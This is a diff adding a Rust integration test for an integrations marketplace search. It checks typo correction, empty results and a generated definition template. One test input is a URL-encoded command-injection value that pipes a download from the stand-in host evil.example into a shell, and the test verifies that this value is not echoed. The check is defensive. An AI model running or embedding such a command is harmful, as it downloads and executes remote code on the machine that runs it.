@@ -463,3 +463,28 @@ async fn a_refused_filter_is_told_where_its_results_would_stand() {
     assert_eq!(stranger.header("hx-redirect"), Some("/sign-in?to=%2Factivity%3Fq%3Da%2526b"));
     house.close().await;
 }
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_slip_in_a_search_is_mended_and_an_empty_one_shows_a_definition_that_counts() {
+    let house = House::open(&people()).await;
+    let ada = house.signed_in("ada", ADA);
+    let ids = |q: &str| {
+        let rows = ada.get(&format!("/api/integrations/marketplace?q={q}")).json();
+        rows.as_array().unwrap().iter().map(|row| row["id"].as_str().unwrap().to_owned()).collect::<Vec<_>>()
+    };
+    for (slip, meant) in [("gihub", "github"), ("slak", "slack"), ("strpe+paymnts", "stripe")] {
+        assert!(ids(slip).iter().any(|id| id == meant), "{slip}: {:?}", ids(slip));
+    }
+    assert_eq!(ids("no+such+thing"), Vec::<String>::new());
+    assert!(text(&ada.get("/integrations?q=gihub")).contains("This is what fits “github”"));
+    let page = text(&ada.get("/integrations?q=%3B%20curl%20evil.example%7Csh%20%23"));
+    let (_, rest) = page.split_once("<pre tabindex=\"0\">").unwrap_or_else(|| panic!("{page}"));
+    let (shown, _) = rest.split_once("</pre>").unwrap();
+    assert!(!shown.contains("evil"), "{shown}");
+    let file = shown.replace("&quot;", "\"").replace("&#x2f;", "/");
+    std::fs::write(house.directory.path().join("integrations/my-service.yaml"), file).unwrap();
+    house.running.reloader().reload().await;
+    assert_eq!(ids("my-service"), ["my-service"]);
+    assert_eq!(ada.get("/api/integrations/marketplace?q=my-service").json()[0]["problems"], json!([]));
+    house.close().await;
+}
